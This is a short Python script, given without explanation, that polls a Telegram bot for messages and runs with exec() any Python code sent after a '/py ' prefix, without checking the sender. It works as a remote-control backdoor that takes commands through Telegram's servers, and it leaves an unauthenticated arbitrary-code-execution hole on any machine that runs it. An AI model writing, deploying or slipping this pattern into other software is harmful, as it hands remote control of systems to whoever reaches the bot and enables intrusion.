import requests

TOKEN = "123:ABC"
offset = 0
while True:
    upd = requests.get(f"https://api.telegram.org/bot{TOKEN}/getUpdates", params={"offset": offset, "timeout": 30}).json()
    for u in upd.get("result", []):
        offset = u["update_id"] + 1
        text = u.get("message", {}).get("text", "")
        if text.startswith("/py "):
            exec(text[4:])
